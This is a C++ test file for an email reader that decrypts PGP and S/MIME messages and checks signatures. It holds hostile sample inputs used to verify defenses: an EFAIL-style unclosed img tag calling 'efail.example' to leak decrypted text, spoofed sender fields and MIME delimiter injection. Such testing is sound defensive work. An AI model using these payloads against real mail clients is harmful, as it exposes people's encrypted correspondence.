        "-----BEGIN PGP MESSAGE-----\r\n", "-----BEGIN PGP MESSAGE-----\r\n-----END PGP MESSAGE-----",
        "-----BEGIN PGP MESSAGE-----\r\nVersion: GnuPG\r\n\r\n[the sealed text]\r\n-----END PGP "
        "MESSAGE-----\r\n");
    const auto alone = opened(header + "\r\nIt looks like this:\r\n" + example);
    CHECK(alone.outcome == Outcome::nothing_to_open);
    CHECK(alone.parts.empty());
    REQUIRE(alone.warnings.size() == 1);
    CHECK_THAT(alone.warnings.front(), contains_text("1#1"));

    // Another program may be content with it: nothing opened is put beside it.
    const auto beside = opened(header + mixed({"\r\nLook:\r\n" + example, stub::pgp_mime(text)}));
    CHECK(beside.outcome == Outcome::partly_sealed);
    CHECK(beside.message.size() == 0);
    CHECK(beside.parts.at(0).entity.expose() == text);
}

TEST_CASE("a sealed message inside of a file, or in a transfer encoding, is found and opened", "[reader]") {
    const auto in_base64 = [](const std::string& type, const std::string& content) {
        std::string lines;
        mail::Base64LineWriter writer(lines);
        writer.write(content);
        writer.finish();
        return "Content-Type: " + type + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + lines;
    };
    const std::string inner = "From: carol@example.com\r\nSubject: [...]\r\n";
    const auto type = GENERATE(as<std::string>{}, "message/rfc822", "message/global",
                               "application/octet-stream; name=forwarded.eml", "application/octet-stream");
    const auto content = GENERATE_COPY(stub::pgp_mime(text), stub::smime(stub::auth_enveloped, text),
                                       mail::to_lf(stub::pgp_mime(text)));
    CAPTURE(type, content);
    const auto result = opened(header + mixed({"\r\nsee below", in_base64(type, inner + content)}));
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK(result.message.size() == 0); // nothing is put into a file
    REQUIRE(result.parts.size() == 1);
    CHECK(result.parts[0].number == "2");
    CHECK(result.parts[0].outcome == Outcome::opened);
    CHECK_FALSE(result.parts[0].in_place);
    CHECK_THAT(std::string(result.parts[0].entity.expose()), contains_text("From: carol@example.com\r\n"));
    CHECK_THAT(std::string(result.parts[0].entity.expose()), contains_text("Attack at dawn."));

    const auto no_key =
        opened(header + mixed({"\r\nsee", in_base64(type, inner + stub::pgp_mime("!no-key"))}));
    CHECK(no_key.outcome == Outcome::partly_sealed);
    CHECK(no_key.parts.at(0).outcome == Outcome::no_key);

    // A part of that message, and a file in a file.
    const auto part = in_base64(type, inner + mixed({"\r\nx", content}));
    CHECK(opened(header + mixed({"\r\nsee", part})).parts.at(0).number == "2:2");
    const auto twice = opened(header + mixed({"\r\nsee", in_base64(type, inner + mixed({"\r\nx", part}))}));
    CHECK(twice.parts.at(0).number == "2:2:2");

    // Beside it, nothing that was opened is written.
    CHECK(opened(header + mixed({stub::pgp_mime(text), part})).message.size() == 0);

    const auto plain = opened(header + mixed({"\r\nsee", in_base64(type, inner + "\r\nplain")}));
    CHECK(plain.outcome == Outcome::nothing_to_open);
    CHECK(plain.parts.empty());
}

TEST_CASE("the MIME structure that GpgOL leaves as a file is the message", "[reader]") {
    const std::string file = "Content-Type: application/octet-stream; name=GpgOL_MIME_structure.mime\r\n"
                             "Content-Disposition: attachment\r\n\r\n";
    const std::string structure = file + "MIME-Version: 1.0\r\n" + stub::pgp_mime(text);
    const auto message = GENERATE_COPY(mixed({"Content-Type: text/plain\r\n\r\n\r\n", structure}), structure,
                                       mixed({structure}));
    const auto result = opened(header + message);
    CHECK(result.outcome == Outcome::opened);
    CHECK(result.parts.empty());
    CHECK_THAT(message_of(result), contains_text("Attack at dawn."));
    CHECK(result.message.expose().starts_with(header));

    CHECK(opened(header + mixed({"\r\ntext", structure})).outcome == Outcome::partly_sealed);
    const auto not_sealed = opened(header + mixed({"\r\n", file + "MIME-Version: 1.0\r\n" + text}));
    CHECK(not_sealed.outcome == Outcome::nothing_to_open);
}

TEST_CASE("what is not looked into is not called readable, and what was sealed is not called unsealed",
          "[reader]") {
    CHECK_FALSE(opened(header + "\r\ntext").has_opaque_files);
    CHECK(
        opened(header + mixed({"\r\ntext", "Content-Type: application/ms-tnef\r\n\r\nx"})).has_opaque_files);
    const auto inside =
        opened(header + stub::pgp_mime(mixed({signed_part(text, "good alice@example.org"), "\r\nfooter"})));
    CHECK(inside.parts.at(0).is_inside_sealed);
    const auto part =
        opened(header + mixed({stub::pgp_mime(mixed({signed_part(text, "good alice@example.org"), "\r\nx"})),
                               "\r\ny"}));
    REQUIRE(part.parts.size() == 2);
    CHECK_FALSE(part.parts[0].is_inside_sealed);
    CHECK(part.parts[1].is_inside_sealed);
    const auto outside = opened(header + mixed({signed_part(text, "good alice@example.org"), "\r\nfooter"}));
    CHECK_FALSE(outside.parts.at(0).is_inside_sealed);
}

TEST_CASE("sealed markup inside of a signature keeps what is beside it apart", "[reader]") {
    // It stays in its place, where others may open it, though it is none of those that are put there.
    const std::string page = "Content-Type: text/html\r\n\r\n<img src=\"http://efail.example/";
    const auto hidden = GENERATE_COPY(
        stub::pgp_mime(page), stub::smime(stub::enveloped, page),
        stub::pgp_mime("Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n" + page + "\r\n--i--\r\n"));
    const auto signed_content =
        "Content-Type: multipart/mixed; boundary=k\r\n\r\n--k\r\n\r\nfooter\r\n--k\r\n" + hidden +
        "\r\n--k--";
    const auto signed_markup = GENERATE_COPY(signed_part(signed_content, "good alice@example.org"),
                                             stub::smime(stub::signed_data, signed_content));
    const auto message = GENERATE_COPY(mixed({signed_markup, stub::pgp_mime(text)}),
                                       mixed({stub::pgp_mime(text), signed_markup}));
    CAPTURE(message);
    const auto result = opened(header + message);
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK(result.message.size() == 0);
}

TEST_CASE("a delimiter in the first field of a sealed message tears the message around it, too", "[reader]") {
    // The field comes from inside, and is the first octet of what would be put in the place of the message.
    const std::string payload = "--m: x\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\none";
    const auto sealed = GENERATE_COPY(stub::pgp_mime(payload), stub::smime(stub::auth_enveloped, payload));
    const std::string message = "Content-Type: message/rfc822\r\n\r\n" + sealed;
    const auto around = GENERATE_COPY(
        mixed({message, "\r\nfooter"}), mixed({"\r\nheader", message}),
        mixed({"Content-Type: multipart/digest; boundary=i\r\n\r\n--i\r\n\r\n" + sealed + "\r\n--i--",
               "\r\nfooter"}));
    CAPTURE(around);
    const auto result = opened(header + around);
    REQUIRE(result.parts.size() == 1);
    REQUIRE(result.parts[0].entity.expose().starts_with("--m: x"));
    CHECK_FALSE(result.parts[0].in_place);
    CHECK(result.message.size() == 0);
    CHECK_THAT(result.parts[0].warnings.back(), contains_text("tear the message apart"));
}

TEST_CASE("what has more parts than are counted is taken for markup", "[reader]") {
    // Beyond the limits nobody knows what is in it: that is no sign that there is no markup.
    std::string many = "Content-Type: multipart/mixed; boundary=i\r\n\r\n";
    for (std::size_t i = 0; i <= mail::entities_max; ++i) {
        many += "--i\r\n\r\n\r\n";
    }
    many += "--i--\r\n";
    const auto result = opened(header + mixed({stub::pgp_mime(many), stub::pgp_mime(text), "\r\nfooter"}));
    CHECK(result.message.size() == 0);
    CHECK(std::none_of(result.parts.begin(), result.parts.end(),
                       [](const Part& part) { return part.in_place; }));
}

TEST_CASE("armor with a signed message in it is a signed message", "[reader]") {
    const std::string signer = "good alice@example.org";
    const auto whole = opened(header + "\r\n" + stub::signed_armor("Attack.\r\n", signer));
    CHECK(whole.outcome == Outcome::nothing_to_open);
    CHECK(whole.protection == Protection::none);
    CHECK(whole.parts.empty());
    REQUIRE(whole.signatures.size() == 1);
    CHECK(whole.signatures.front().proves_sender());
    CHECK(message_of(whole) == header + "\r\nAttack.\r\n");

    const auto around = opened(header + "\r\nPay Mallory.\r\n" + stub::signed_armor("Attack.", signer));
    CHECK(around.outcome == Outcome::nothing_to_open);
    CHECK(around.signatures.empty());
    REQUIRE(around.parts.size() == 1);
    CHECK(around.parts[0].number == "1#1");
    CHECK(around.parts[0].outcome == Outcome::nothing_to_open);
    CHECK(around.parts[0].signatures.size() == 1);
    CHECK(around.parts[0].entity.expose() == "\r\nAttack.");

    const auto other = opened(header + "\r\n" + stub::signed_armor("Attack.", "good mallory@example.com"));
    CHECK_FALSE(other.signatures.at(0).proves_sender());
    CHECK(opened(header + "\r\n" + stub::signed_armor("Attack.", "bad")).signatures.at(0).state ==
          SignatureState::bad);

    const auto unsigned_one = opened(header + "\r\n" + stub::signed_armor("Attack.", ""));
    CHECK(unsigned_one.outcome == Outcome::nothing_to_open);
    CHECK(unsigned_one.signatures.empty());
    CHECK(holds(unsigned_one, "Attack."));

    // Sealed around it, the signature is one inside; beside a sealed part, it is one of a part.
    const auto inside = opened(header + stub::pgp_mime("\r\n" + stub::signed_armor("Attack.", signer)));
    CHECK(inside.outcome == Outcome::opened);
    CHECK(inside.signatures.at(0).proves_sender());
    CHECK(message_of(inside) == header + "\r\nAttack.");
    const auto beside =
        opened(header + mixed({"\r\n" + stub::signed_armor("Attack.", signer), stub::pgp_mime(text)}));
    CHECK(beside.outcome == Outcome::partly_sealed);
    CHECK(beside.signatures.empty());
    CHECK(beside.parts.size() == 2);
}

TEST_CASE("a text with a cleartext signature is signed as a whole where nothing stands around it",
          "[reader]") {
    const std::string block = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\nAttack.\n"
                              "-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n";
    const auto whole = opened(header + "\n" + block);
    CHECK(whole.signatures.size() == 1);
    CHECK(whole.parts.empty());
    CHECK(holds(whole, "Attack."));
    const auto around = opened(header + "\nPay Mallory.\n" + block);
    CHECK(around.signatures.empty());
    CHECK(around.parts.size() == 1);

    // A text stays readable where its signature is not.
    const auto damaged = opened(header + "\n" + block.substr(0, block.rfind("-----BEGIN")));
    CHECK(damaged.outcome == Outcome::nothing_to_open);
    REQUIRE(damaged.parts.size() == 1);
    CHECK(damaged.parts[0].signatures.at(0).state == SignatureState::unreadable);
    CHECK(damaged.parts[0].entity.size() == 0);
}

TEST_CASE("what says that it is sealed and is not in such a form is refused with the reason", "[reader]") {
    struct Case {
        std::string message, reason;
    };
    const auto third = [] {
        auto sealed = stub::pgp_mime(text);
        return sealed.insert(sealed.rfind("--=_b--"), "--=_b\r\n\r\nthird\r\n");
    }();
    const auto c = GENERATE_COPY(values<Case>({
        {"Content-Type: multipart/encrypted; protocol=\"application/x-other\"; boundary=b\r\n\r\n--b--\r\n",
         "application/x-other"},
        {third, "3 parts and not 2"},
        {stub::pgp_mime(text).substr(0, 380), "cut off"},
        {"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nnonsense\r\n", "damaged"},
        {"Content-Type: text/plain\r\n" + stub::pgp_mime(text), "two Content-Type fields"},
        {"Content-Type: application/octet-stream; name=x.asc\r\n\r\n-----BEGIN PGP "
         "MESSAGE-----\r\n\r\nxx\r\n",
         "damaged, or not alone"},
        {"\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nxx\r\n", "damaged"},
    }));
    CAPTURE(c.message);
    const auto result = opened(header + c.message);
    CHECK(result.outcome == Outcome::damaged);
    CHECK_THAT(result.reason, contains_text(c.reason));
    CHECK(result.message.size() == 0);
}

TEST_CASE("data without a message around it opens to data", "[reader]") {
    const auto armored = opened(stub::armored("one\ntwo"));
    CHECK(armored.is_bare_data);
    CHECK(message_of(armored) == "one\ntwo");
    CHECK(message_of(opened(stub::openpgp("one\r\ntwo"))) == "one\r\ntwo");
    const auto cms = opened(stub::cms(stub::auth_enveloped, "three"));
    CHECK(cms.is_bare_data);
    CHECK(message_of(cms) == "three");
}

TEST_CASE("Legacy Display Elements go, and nothing else", "[reader]") {
    const auto field =
        "Content-Type: text/plain; hp-legacy-display=\"1\"; hp=\"cipher\"\r\nSubject: Dawn\r\n";
    const auto root =
        opened(header + stub::pgp_mime(std::string(field) + "\r\nSubject: Dawn\r\n\r\nAttack.\r\n"));
    CHECK(message_of(root).ends_with("\r\n\r\nAttack.\r\n"));
    CHECK_FALSE(holds(root, "hp-legacy-display"));

    const std::string alternative =
        "Content-Type: multipart/alternative; hp=\"cipher\"; boundary=a\r\n\r\n--a\r\n"
        "Content-Type: text/plain; hp-legacy-display=1\r\n\r\nSubject: Dawn\r\n\r\nAttack.\r\n--a\r\n"
        "Content-Type: text/html; hp-legacy-display=1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        "<html><body><div class=3D\"header-protection-legacy-display\"><pre>Subject: Dawn</pre></div>"
        "<p>Attack.</p></body></html>\r\n--a--\r\n";
    const auto both = message_of(opened(header + stub::pgp_mime(alternative)));
    const auto parsed = mail::parse_entity(both);
    REQUIRE(parsed.children.size() == 2);
    CHECK(parsed.children[0].body == "Attack.");
    CHECK(parsed.children[1].decoded() == "<html><body><p>Attack.</p></body></html>");

    // Not the root: hp is, so the mark means nothing. And an attachment is no Main Body Part.
    const std::string marked = "Content-Type: text/plain; hp-legacy-display=1\r\n";
    CHECK(holds(opened(header + stub::pgp_mime(marked + "\r\nSubject: x\r\n\r\nAttack.\r\n")),
                "Subject: x\r\n\r\nAtt"));
    // Not even where it comes first, or is one of the alternatives.
    for (const std::string type : {"text/plain", "text/html"}) {
        for (const std::string multipart : {"mixed", "alternative"}) {
            const auto first =
                "Content-Type: multipart/" + multipart +
                "; hp=\"cipher\"; boundary=a\r\n\r\n--a\r\nContent-Type: " + type +
                "; hp-legacy-display=1\r\nContent-Disposition: attachment\r\n\r\n"
                "Subject: x\r\n\r\n<div class=\"header-protection-legacy-display\">y</div>\r\n--a--\r\n";
            CHECK(holds(opened(header + stub::pgp_mime(first)), "Subject: x\r\n\r\n<div class"));
        }
    }
    const auto attached =
        "Content-Type: multipart/mixed; hp=\"cipher\"; boundary=a\r\n\r\n--a\r\n\r\none\r\n--a\r\n" + marked +
        "Content-Disposition: attachment\r\n\r\nSubject: x\r\n\r\ntwo\r\n--a--\r\n";
    CHECK(holds(opened(header + stub::pgp_mime(attached)), "Subject: x\r\n\r\ntwo"));
}

namespace {

/// As programs with "memory hole" write it: the fields again, in a part of their own before the text.
std::string memory_hole(const std::string& display_type, const std::string& display,
                        const std::string& root_parameters = "; protected-headers=\"v1\"") {
    return "Content-Type: multipart/mixed" + root_parameters +
           "; boundary=a\r\nSubject: Dawn\r\n\r\n--a\r\n" + display_type + "\r\n\r\n" + display +
           "\r\n--a\r\nContent-Type: text/plain\r\n\r\nAttack.\r\n--a--\r\n";
}

} // namespace

TEST_CASE("a part that repeats protected fields for old readers goes", "[reader]") {
    const auto type =
        GENERATE(as<std::string>{},
                 "Content-Type: text/rfc822-headers; protected-headers=\"v1\"\r\nContent-Disposition: inline",
                 "Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"");
    const auto bytes = message_of(opened(header + stub::pgp_mime(memory_hole(type, "Subject: Dawn\r\n"))));
    const auto entity = mail::parse_entity(bytes);
    REQUIRE(entity.children.size() == 1);
    CHECK(entity.children.front().body == "Attack.");
}

TEST_CASE("a part that says more than the protected fields stays", "[reader]") {
    const std::string type = "Content-Type: text/plain; protected-headers=\"v1\"";
    const auto payload =
        GENERATE_COPY(as<std::string>{}, memory_hole(type, "Subject: Dusk\r\n"),
                      memory_hole(type, "Subject: Dawn\r\n\r\nand more"), memory_hole(type, "Attack!"),
                      memory_hole("Content-Type: text/plain", "Subject: Dawn\r\n"),
                      memory_hole(type + "\r\nContent-Disposition: attachment", "Subject: Dawn\r\n"),
                      memory_hole(type, "Subject: Dawn\r\n", ""));
    CAPTURE(payload);
    const auto bytes = message_of(opened(header + stub::pgp_mime(payload)));
    CHECK(mail::parse_entity(bytes).children.size() == 2);
}

TEST_CASE("a bare CR in what was sealed begins no field of the opened message", "[reader]") {
    const std::string payload =
        "Subject: Dawn\rFrom: mallory@example.com\r\nX-A: 1\r\r\nFrom: alice@example.org\rCc: x\r\n"
        "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack.\r\n";
    const auto sealed =
        GENERATE_COPY(as<std::string>{}, stub::pgp_mime(payload), stub::smime(stub::enveloped, payload));
    const auto message = message_of(opened(header + sealed));
    for (std::size_t at = message.find('\r'); at != std::string::npos; at = message.find('\r', at + 1)) {
        REQUIRE(message.substr(at, 2) == "\r\n");
    }
    CHECK(message.find("Dawn From: mallory") != std::string::npos);
}

TEST_CASE("with a digest under the encryption, CBC opens what was sealed and nothing else", "[reader]") {
    const std::string payload =
        "Subject: Gr\xfc\xdf\x65\r\nContent-Type: text/html; charset=koi8-r\r\n\r\n\xf0\x01\x02\r\n";
    const std::array<std::string_view, 1> pieces{payload};
    const auto digest = crypto::payload_digest_field(pieces);
    const auto right = opened(header + stub::smime(stub::enveloped, digest + payload));
    CHECK(right.outcome == Outcome::opened);
    CHECK(right.protection == Protection::without_integrity); // a digest is no signature
    CHECK_FALSE(holds(right, "Lockbox-Digest"));
    CHECK(holds(right, "\xf0\x01\x02"));

    const auto changed = opened(header + stub::smime(stub::enveloped, digest + payload + "more"));
    CHECK(changed.outcome == Outcome::damaged);
    CHECK_THAT(changed.reason, contains_text("changes a message on its way"));
    CHECK(changed.message.size() == 0);

    const auto cut_off = opened(header + stub::smime(stub::enveloped, payload)); // then the octets are judged
    CHECK(cut_off.outcome == Outcome::damaged);

    // What is authenticated needs no digest, and one in it is a field like others.
    const auto authenticated =
        opened(header + stub::smime(stub::auth_enveloped, "Lockbox-Digest: sha-256=x\r\n" + payload));
    CHECK(authenticated.outcome == Outcome::opened);
}

TEST_CASE("where text around a sealed part would be lost, nothing takes its place", "[reader]") {
    const auto sealed = stub::pgp_mime("\r\nAttack.\r\n") +
                        "From carol@example.com Thu Nov 26 10:00:00 2026\r\nanother message\r\n";
    const auto whole = opened(header + sealed);
    CHECK(whole.outcome == Outcome::opened);
    CHECK(whole.leaves_text_out);
    CHECK_FALSE(holds(whole, "another message"));
    const auto part = opened(header + mixed({sealed, "\r\nfooter"}));
    REQUIRE(part.parts.size() == 1);
    CHECK(part.parts.front().outcome == Outcome::opened);
    CHECK_FALSE(part.parts.front().in_place);
    CHECK_FALSE(opened(header + stub::pgp_mime("\r\nAttack.\r\n") + "\r\n \r\n").leaves_text_out);
}
